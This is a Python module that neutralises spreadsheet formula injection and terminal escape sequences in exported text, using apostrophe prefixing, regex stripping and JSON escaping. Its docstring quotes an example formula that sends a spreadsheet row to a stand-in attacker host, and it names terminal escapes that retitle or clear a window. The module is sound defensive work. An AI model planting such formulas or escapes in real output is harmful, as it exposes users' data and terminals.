"""Text from an export, made safe for where the app puts it: spreadsheets and terminals.

Everything in an export (device names, vendor ids, titles, transcripts) is written by someone
else and may be hostile. Two places would otherwise execute it:
- a spreadsheet opening our CSV evaluates a cell starting with `=`, `+`, `-` or `@` (and, in
  some, a tab or carriage return first) as a formula: `=HYPERLINK("http://evil.example/?"&A1)`
  sends the row away when clicked. Such a cell gets a leading apostrophe, the usual
  neutraliser: spreadsheets show the text as it is and do not evaluate it (OWASP, "CSV
  Injection"). The letters keep the exact identifiers; only CSV cells change.
- a terminal interprets escape sequences in what the CLI prints: an id with `ESC ] 0;…` can
  retitle the window, `ESC [ 2J` clear it, others hide text or, in some terminals, write
  files. Printed export text loses every escape sequence and control character.
"""

from __future__ import annotations

import re

# Full-width forms too: some spreadsheet locales treat them as the ASCII operators.
_FORMULA_START = ("=", "+", "-", "@", "\t", "\r", "\uff1d", "\uff0b", "\uff0d", "\uff20")

# ESC-introduced sequences: CSI (ESC [ … final byte), OSC/DCS/SOS/PM/APC strings (ended by BEL
# or ESC \), or ESC and one more character. Their 8-bit C1 forms too (U+009B CSI, U+009D OSC…).
_ESCAPES = re.compile(
    r"(?:\x1b\[|\x9b)[0-?]*[ -/]*[@-~]?"
    r"|(?:\x1b[\]PX^_]|[\x90\x98\x9d\x9e\x9f])[^\x07\x1b\x9c]*(?:\x07|\x1b\\|\x9c)?"
    r"|\x1b[ -~]?")
# What remains of C0 and C1 controls and DEL, except line feed and tab.
_CONTROLS = re.compile(r"[\x00-\x08\x0b-\x1f\x7f-\x9f]")
# Bidirectional overrides reorder what is shown (a file name that reads backwards).
_BIDI = re.compile(r"[\u202a-\u202e\u2066-\u2069]")
# What json.dumps(ensure_ascii=False) leaves raw but a terminal may act on.
_JSON_RAW = re.compile(r"[\x7f-\x9f\u202a-\u202e\u2066-\u2069]")


def spreadsheet_cell(value: str) -> str:
    """`value` as a CSV cell that no spreadsheet evaluates."""
    return "'" + value if value.startswith(_FORMULA_START) else value


def terminal_text(value: str, one_line: bool = False) -> str:
    """`value` without escape sequences or control characters, fit to print on a terminal;
    with `one_line`, line breaks and tabs become spaces."""
    text = _BIDI.sub("", _CONTROLS.sub("", _ESCAPES.sub("", value)))
    if one_line:
        text = " ".join(text.splitlines()).replace("\t", " ")
    return text


def terminal_json(text: str) -> str:
    """JSON from `json.dumps(..., ensure_ascii=False)` with DEL, C1 controls and bidi
    overrides written as \\u escapes (json.dumps escapes only C0): the same data for any
    JSON reader, inert on a terminal. They can only occur inside strings, so this is exact."""
    return _JSON_RAW.sub(lambda m: f"\\u{ord(m.group()):04x}", text)
